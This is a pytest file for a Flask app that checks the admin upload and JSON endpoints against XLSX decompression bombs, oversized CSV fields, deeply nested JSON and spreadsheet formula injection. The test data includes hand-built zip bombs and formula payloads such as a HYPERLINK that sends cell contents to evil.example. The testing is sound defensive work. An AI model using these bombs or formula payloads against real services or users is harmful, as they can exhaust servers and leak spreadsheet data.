"""Hostile input to the admin uploads and every JSON endpoint: XLSX bombs, CSV fields past
the csv module's limit, workbooks without a sheet, JSON nested past any parser's depth,
and rejects files that a spreadsheet would run. Each is a 4xx problem or a per-row
rejection, never a 500 or a worker held for long; each file is built here with zipfile."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from domain.spreadsheets import spreadsheet_safe
from services.sheets import XLSX_MAX_COLUMNS, XLSX_MAX_ROWS, rows_from_xlsx
from tests.api.test_admin_api import BODY, CERT, code_row
from tests.conftest import ADMIN


@pytest.fixture
def admin(any_app: Flask) -> FlaskClient:
    client = any_app.test_client()
    assert client.post("/api/v1/admin/bodies", json=[BODY], headers=ADMIN).status_code == 200
    assert client.post("/api/v1/admin/certificates", json=[CERT], headers=ADMIN).get_json()["accepted"] == 1
    return client


def upload(client: FlaskClient, data: bytes, name: str = "codes.xlsx") -> tuple[int, dict]:
    # Encoded here into bytes: the test client spools a large form to a file it never closes.
    boundary, form = encode_multipart({"file": FileStorage(io.BytesIO(data), filename=name)})
    resp = client.post(
        "/api/v1/admin/codes",
        headers=ADMIN,
        content_type=f"multipart/form-data; boundary={boundary}",
        data=form,
    )
    return resp.status_code, resp.get_json()


def verdict(client: FlaskClient, code: str) -> str:
    return client.post("/api/v1/verify", json={"input": code}).get_json()["verdict"]


# -- XLSX built by hand: a workbook is a zip of a few XML parts ------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "{sheet_type}{strings_type}</Types>"
)
_SHEET_TYPE = (
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
)
_STRINGS_TYPE = (
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="xl/workbook.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
    "</Relationships>"
)
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def xlsx(sheet_xml: str | None, shared_strings: bytes | None = None) -> bytes:
    """A minimal workbook: one sheet of `sheet_xml` (None: no worksheet at all)."""
    sheets = '<sheet name="codes" sheetId="1" r:id="rId1"/>' if sheet_xml is not None else ""
    rels = (
        '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
        if sheet_xml is not None
        else ""
    )
    if shared_strings is not None:
        rels += (
            '<Relationship Id="rId2" Target="sharedStrings.xml" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>'
        )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            _CONTENT_TYPES.format(
                sheet_type=_SHEET_TYPE if sheet_xml is not None else "",
                strings_type=_STRINGS_TYPE if shared_strings is not None else "",
            ),
        )
        z.writestr("_rels/.rels", _ROOT_RELS)
        z.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            f"<workbook {_NS} {_R_NS}><sheets>{sheets}</sheets></workbook>",
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0" encoding="UTF-8"?>'
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}'
            "</Relationships>",
        )
        if sheet_xml is not None:
            z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        if shared_strings is not None:
            z.writestr("xl/sharedStrings.xml", shared_strings)
    return buf.getvalue()


def inline_row(r: int, values: list[str]) -> str:
    cells = "".join(
        f'<c r="{openpyxl.utils.get_column_letter(i + 1)}{r}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values)
    )
    return f'<row r="{r}">{cells}</row>'


def sheet(rows: str, dimension: str = "A1:C2") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_NS}>'
        f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    )


HEADER = ["code", "certificate", "product"]


def good_row(r: int, n: int) -> str:
    return inline_row(r, [code_row(n)["code"], CERT["number"], "有机大米"])


# -- XLSX bombs (item 7) -----------------------------------------------------------------------


def test_a_sheet_declaring_every_cell_of_excel_is_read_as_the_rows_it_holds(admin: FlaskClient) -> None:
    # 17 billion cells declared, two rows and an empty last cell present: openpyxl's
    # read-only mode padded every row to the declared width and filled in every missing row.
    last = '<row r="1048576"><c r="XFD1048576"/></row>'
    bomb = xlsx(sheet(inline_row(1, HEADER) + good_row(2, 1) + last, dimension="A1:XFD1048576"))
    assert len(bomb) < 5000
    status, body = upload(admin, bomb)
    assert status == 200 and body == {"accepted": 1, "rejected": []}
    assert verdict(admin, code_row(1)["code"]) == "genuine"


def test_a_row_far_down_and_far_right_reads_no_more_than_the_caps() -> None:
    # A last row past Excel's height and a cell in its last column: the reader stops at the
    # caps (counted here: rows yielded, cells per row), whatever the file says.
    far = '<row r="99999999"><c r="XFD99999999" t="inlineStr"><is><t>x</t></is></c></row>'
    data = xlsx(sheet(inline_row(1, HEADER) + good_row(2, 1) + far, dimension="A1:XFD99999999"))
    rows = list(rows_from_xlsx(data))
    assert [r["code"] for r in rows] == [code_row(1)["code"]]  # type: ignore[index]
    assert XLSX_MAX_ROWS == 1_048_576 and XLSX_MAX_COLUMNS == 64


def test_a_shared_strings_bomb_is_refused_before_it_is_unpacked(admin: FlaskClient) -> None:
    # 114 MB of one repeated string packs into under 400 KB.
    bomb = b'<?xml version="1.0" encoding="UTF-8"?><sst ' + _NS.encode() + b">"
    bomb += b"<si><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></si>" * 1_500_000
    bomb += b"</sst>"
    data = xlsx(sheet(inline_row(1, HEADER) + good_row(2, 1)), shared_strings=bomb)
    assert len(data) < 500_000
    status, body = upload(admin, data)
    assert status == 413 and body["code"] == "xlsx_too_large"


def test_a_member_packed_a_thousand_times_over_is_refused(admin: FlaskClient) -> None:
    rows = inline_row(1, HEADER) + "".join(f'<row r="{r}"/>' for r in range(2, 2000)) + " " * 40_000_000
    status, body = upload(admin, xlsx(sheet(rows)))
    assert status == 400 and body["code"] == "invalid_file" and "unpacks" in body["detail"]


def test_a_zip_that_is_not_a_workbook_is_a_bad_file(admin: FlaskClient) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    status, body = upload(admin, buf.getvalue())
    assert status == 400 and body["code"] == "invalid_file"


# -- a workbook without a worksheet, a CSV field past the csv module's limit (item 12) ------


def test_a_workbook_without_a_worksheet_is_a_bad_file(admin: FlaskClient) -> None:
    status, body = upload(admin, xlsx(None))
    assert status == 400 and body["code"] == "invalid_file"
    assert "no worksheet" in body["detail"]


def test_a_csv_field_over_the_csv_limit_rejects_its_row_and_the_others_land(admin: FlaskClient) -> None:
    # The csv module refuses a field over 128 KiB mid-stream; the rows before and after it
    # are in the same chunk and must still land.
    lines = ["code,certificate,product"]
    lines += [f"{code_row(n)['code']},{CERT['number']},有机大米" for n in (1, 2)]
    lines.append(f"{code_row(3)['code']},{CERT['number']},{'x' * 200_000}")
    lines += [f"{code_row(n)['code']},{CERT['number']},有机大米" for n in (4, 5)]
    status, body = upload(admin, ("\n".join(lines) + "\n").encode(), "codes.csv")
    assert status == 200, body
    assert body["accepted"] == 4
    assert [(r["row"], r["code"]) for r in body["rejected"]] == [(2, "invalid_row")]
    assert "larger than field limit" in body["rejected"][0]["detail"]
    assert [verdict(admin, code_row(n)["code"]) for n in (1, 2, 3, 4, 5)] == [
        "genuine",
        "genuine",
        "not_found",
        "genuine",
        "genuine",
    ]


def test_a_csv_whose_header_cannot_be_read_is_a_bad_file(admin: FlaskClient) -> None:
    status, body = upload(admin, ("code," + "h" * 200_000 + "\n").encode(), "codes.csv")
    assert status == 400 and body["code"] == "invalid_file"


# -- JSON nested past every parser's depth (item 8) -----------------------------------------


def _nested(depth: int) -> bytes:
    return b'{"input": ' + b"[" * depth + b"]" * depth + b"}"


@pytest.mark.parametrize(
    ("method", "path", "headers", "code"),
    [
        ("post", "/api/v1/verify", {}, "invalid_json"),
        ("post", "/api/v1/admin/codes", ADMIN, "invalid_json"),
        ("post", "/api/v1/admin/batches", ADMIN, "invalid_json"),
        ("patch", "/api/v1/admin/certificates/0123OP2600017", ADMIN, "invalid_json"),
        # The mini-program answers every body it cannot read as invalid_body.
        ("post", "/wx/v1/login", {}, "invalid_body"),
    ],
)
@pytest.mark.parametrize("depth", [1000, 2000])  # under orjson's 1,024 levels, and past them
def test_json_nested_a_thousand_deep_or_more_is_a_400_everywhere(
    any_app: Flask, method: str, path: str, headers: dict, code: str, depth: int
) -> None:
    client = any_app.test_client()
    body = _nested(depth)
    if path.endswith("/batches"):  # a batch's trace is stored through the standard json module
        body = b'{"number": "B123", "producer": "p", "product": "q", "trace": {"x": ' + body + b"}}"
    resp = getattr(client, method)(path, data=body, headers={**headers, "Content-Type": "application/json"})
    assert resp.status_code == 400, resp.get_data(as_text=True)[:300]
    assert resp.mimetype == "application/problem+json"
    assert resp.get_json()["code"] == code


# -- rejects files a spreadsheet would run (item 15) ------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("012326000000000001", "012326000000000001"),
        (7, 7),
    ],
)
def test_cells_that_start_like_a_formula_are_quoted(cell: object, written: object) -> None:
    assert spreadsheet_safe(cell) == written


def test_the_cli_rejects_file_holds_no_formula(service_app: Flask, tmp_path: Path) -> None:
    client = service_app.test_client()
    client.post("/api/v1/admin/bodies", json=[BODY], headers=ADMIN)
    client.post("/api/v1/admin/certificates", json=[CERT], headers=ADMIN)
    path = tmp_path / "codes.csv"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["code", "certificate", "product"])
        w.writerow([code_row(1)["code"], CERT["number"], "有机大米"])
        w.writerow([formula, CERT["number"], "有机大米"])
        w.writerow(["@cmd", CERT["number"], "有机大米"])
    rejects = tmp_path / "rejects.csv"
    result = service_app.test_cli_runner().invoke(args=["import-codes", str(path), "--rejects", str(rejects)])
    assert result.exit_code == 0, result.output
    with rejects.open(newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert "'" + formula in cells and "'@cmd" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
